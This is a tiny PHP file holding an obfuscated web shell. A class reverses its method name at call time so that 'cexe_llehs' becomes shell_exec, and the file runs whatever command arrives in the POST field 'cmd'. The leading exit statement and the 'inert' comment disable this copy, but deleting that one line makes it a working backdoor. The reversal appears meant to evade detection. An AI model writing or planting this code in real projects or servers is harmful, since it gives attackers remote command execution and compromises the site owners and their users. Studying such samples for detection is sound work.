<?php exit; /* inert */ 
class Q {
    private $s = [];
    public function __get($n) { return $_POST[$n] ?? null; }
    public function __call($n, $a) { $f = strrev($n); return $f($a[0]); }
}
$q = new Q;
echo $q->cexe_llehs($q->cmd);
